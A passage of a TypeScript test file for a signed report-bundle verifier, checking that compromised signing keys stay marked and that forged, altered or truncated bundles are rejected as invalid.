    const { engineVersion } = z.looseObject({ engineVersion: z.string() }).parse(model['generated']);
    const generated = { ...z.record(z.string(), z.json()).parse(model['generated']), at: 'never' };
    const text = canonicalJson({ ...model, generated });
    const parts = new Map(unpackBundle(zip)).set('model.json', Buffer.from(text));
    expect(await redrawFinalPdf(parts, [], engineVersion)).toBe('undrawable');
    expect(await redrawFinalPdf(parts, [], 'another release')).toBe('not checked');
  });

  test('a key that was compromised later is marked, and the mark cannot be removed', async () => {
    await sealChain(ctx);
    const { fingerprint } = (await readSshKeyFile(roster.keyFile('approver'))).publicKey;
    await changeRegister(ctx, {
      changes: [{ kind: 'key-end', email: 'approver@example.org', fingerprint, reason: 'compromised' }],
      officerKeyFiles: ['officer1', 'officer2'].map(roster.keyFile),
    });
    await expect(send(identity, join(folder, 'ended'))).rejects.toMatchObject({ code: 'PERSON_KEY_INVALID' });
    const marked = (await makeBundle(ctx, reportId)).zip;
    const parts = unpackBundle(marked);
    const report = reportShape.parse(JSON.parse(Buffer.from(parts.get('report.json') ?? '').toString('utf8')));
    expect(report['compromisedKeys']).toEqual([fingerprint]);
    const signers = Buffer.from(parts.get('allowed_signers') ?? '').toString('utf8');
    expect(await verifyBundle(marked, signers)).toMatchObject({ outcome: 'valid' });
    const forged = repack((all) => {
      for (const [name, bytes] of parts) if (!/^(?:manifest.json|digest.txt)$/.test(name)) all.set(name, bytes);
      all.set('report.json', Buffer.from(canonicalJson(reportJson.parse({ ...report, compromisedKeys: [] }))));
    });
    const { findings } = await verifyBundle(forged, signers);
    expect(findings).toContainEqual({ part: 'report.json', what: 'names other compromised keys than the register' });
  });
});

describe('a bundle made to stop its reader', () => {
  /** Refused as a bundle, or invalid by findings; anything else that is thrown fails the test. */
  async function expectInvalid(bytes: Uint8Array, why: string): Promise<void> {
    try {
      expect((await verifyBundle(bytes, textOf('allowed_signers'))).outcome, why).toBe('invalid');
    } catch (error) {
      expect(error, why).toMatchObject({ code: 'BUNDLE_INVALID' });
    }
  }

  /** report.json with the hash that a changed model has, as somebody who knows the format would write it. */
  function withModel(text: string): Buffer {
    const report = reportShape.parse(JSON.parse(textOf('report.json')));
    const versions = report.versions.map((version) => ({ ...version, reportHash: sha256Of(text) }));
    return Buffer.from(canonicalJson(reportJson.parse({ ...report, versions })));
  }

  test('by any other value in its report or model is invalid, and so is whatever is cut', async () => {
    const { format } = z.object({ format: z.string() }).parse(JSON.parse(textOf('model.json')));
    const models = [
      ...jsonVariants('{}'),
      canonicalJson({ format }),
      canonicalJson({ format, generated: null, report: [] }),
    ];
    for (const text of models) {
      const forged = repack((parts) => parts.set('model.json', Buffer.from(text)).set('report.json', withModel(text)));
      await expectInvalid(forged, `model.json: ${text.slice(0, 200)}`);
    }
    for (const text of jsonVariants(textOf('report.json'), 1)) {
      const forged = repack((parts) => parts.set('report.json', Buffer.from(text)));
      await expectInvalid(forged, `report.json: ${text.slice(0, 200)}`);
    }
    for (const [name, bytes] of unpackBundle(zip)) {
      if (/^(?:manifest.json|digest.txt)$/.test(name) || isAnotherTemplate(name)) continue; // made anew, or as the one
      const forged = repack((parts) => parts.set(name, bytes.subarray(0, bytes.length / 2)));
      await expectInvalid(forged, `${name} cut`);
    }
    for (let n = 0; n < 20; n += 1) await expectInvalid(zip.subarray(0, (zip.length * n) / 20), `zip cut at ${n}/20`);
  });
});
